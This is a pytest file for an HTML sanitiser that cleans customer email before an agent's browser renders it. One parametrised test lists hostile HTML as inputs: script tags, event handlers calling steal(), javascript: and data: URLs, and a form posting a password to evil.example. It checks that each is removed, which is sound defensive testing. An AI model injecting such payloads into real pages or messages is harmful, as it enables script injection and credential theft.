"""HTML sanitising: what an agent's browser may see of a customer's mail."""

from __future__ import annotations

import pytest

from policy.message.markup import (
    REMOTE_IMAGE_SCHEME,
    bound_depth,
    has_text,
    html_to_text,
    normalise_content_id,
    sanitise_html,
)


def test_structure_survives() -> None:
    html = (
        "<p>Hello <b>there</b></p><ul><li>one</li><li>two</li></ul>"
        "<table><tr><td colspan='2'>cell</td></tr></table>"
        "<a href='https://example.com/x'>link</a><blockquote>quoted</blockquote>"
    )
    out = sanitise_html(html).html
    kept = ("<p>", "<b>there</b>", "<li>one</li>", '<td colspan="2">cell</td>', "<blockquote>")
    assert all(piece in out for piece in kept), out
    assert '<a href="https://example.com/x" rel="noopener noreferrer nofollow">link</a>' in out


@pytest.mark.parametrize(
    ("hostile", "gone"),
    [
        ("<script>alert(1)</script>", "alert"),
        ("<style>body{display:none}</style>", "display"),
        ("<head><title>secret title</title><style>x</style></head>", "secret"),
        ("<p onclick='steal()'>x</p>", "steal"),
        ("<img src=x onerror='steal()'>", "steal"),
        ("<a href='javascript:steal()'>x</a>", "javascript"),
        ("<a href='JaVaScRiPt:steal()'>x</a>", "steal"),
        ("<a href='vbscript:steal()'>x</a>", "vbscript"),
        ("<form action='https://evil.example/post'><input name=pw></form>", "evil"),
        ("<button formaction='https://evil.example'>Pay now</button>", "Pay now"),
        ("<iframe src='https://evil.example'></iframe>", "evil"),
        ("<object data='x.swf'></object><embed src='x.swf'>", "swf"),
        ("<svg><script>steal()</script></svg>", "steal"),
        ("<meta http-equiv='refresh' content='0;url=https://evil.example'>", "evil"),
        ("<a href='/api/v1/tickets/1/delete'>x</a>", "/api"),
        ("<a href='data:text/html,<script>steal()</script>'>x</a>", "steal"),
        ("<p style='position:fixed;top:0'>x</p>", "position"),
        ("<p style='background:url(https://track.example/p)'>x</p>", "track"),
        ("<!-- conditional --><p>x</p>", "conditional"),
    ],
)
def test_hostile_content_is_removed(hostile: str, gone: str) -> None:
    assert gone not in sanitise_html(hostile).html


def test_inline_styles_are_filtered_not_dropped() -> None:
    out = sanitise_html("<span style='color: red; position: absolute; font-weight: bold'>x</span>")
    assert out.html == '<span style="color:red;font-weight:bold">x</span>'


def test_remote_images_are_not_loadable_but_remembered() -> None:
    out = sanitise_html("<img src='https://track.example/pixel.gif?u=42' alt='logo'>")
    url = "https://track.example/pixel.gif?u=42"
    assert out.html == f'<img src="{REMOTE_IMAGE_SCHEME}{url}" alt="logo">'
    assert out.remote_images == ("https://track.example/pixel.gif?u=42",)


def test_cid_images_point_at_known_inline_parts_only() -> None:
    out = sanitise_html(
        "<img src='cid:logo%40mail.example'><img src='CID:unknown@x'><img src='cid:Photo@X'>",
        content_ids=["<logo@mail.example>", "photo@x"],
    )
    assert out.html == '<img src="cid:logo@mail.example"><img><img src="cid:photo@x">'
    assert out.content_ids == {"logo@mail.example", "photo@x"}


def test_embedded_bitmaps_are_kept_other_data_urls_are_not() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    out = sanitise_html(f"<img src='{png}'><img src='data:image/svg+xml;base64,PHN2Zz4='>")
    assert out.html == f'<img src="{png}"><img>'


@pytest.mark.parametrize(
    ("value", "normal"),
    [("<a@b>", "a@b"), (" <a@b> ", "a@b"), ("a%40b", "a@b"), ("a@b", "a@b")],
)
def test_content_id_forms(value: str, normal: str) -> None:
    assert normalise_content_id(value) == normal


def test_html_to_text_keeps_layout() -> None:
    text = html_to_text(
        "<p>Dear support,</p><p>my order:</p><ul><li>item one</li><li>item two</li></ul>"
        "<table><tr><td>qty</td><td>3</td></tr></table>"
    )
    assert "Dear support," in text
    assert "* item one" in text
    assert "qty" in text and "3" in text
    assert text.index("Dear support") < text.index("item two")


@pytest.mark.parametrize("blank", ["", "   ", "<p></p>", "<html><body></body></html>"])
def test_blank_html_gives_blank_text(blank: str) -> None:
    assert html_to_text(blank) == ""


def test_depth_is_bounded_without_touching_ordinary_sloppy_html() -> None:
    sloppy = "<p>one<p>two" * 300 + "<font color=red>x" * 20 + "<ul><li>a<li>b</ul>"
    assert bound_depth(sloppy, 128) == (sloppy, False)
    deep = "<div>" * 500 + "deep" + "</div>" * 500
    bounded, flattened = bound_depth(deep, 128)
    assert flattened and bounded == "<div>" * 128 + "deep" + "</div>" * 128
    assert "deep" in html_to_text(sanitise_html(bounded).html)


def test_text_lost_from_html_is_told_from_html_without_text() -> None:
    assert has_text("<div><b>hello</b></div>")
    assert not has_text("<style>p { color: red }</style><p>&nbsp;</p>")
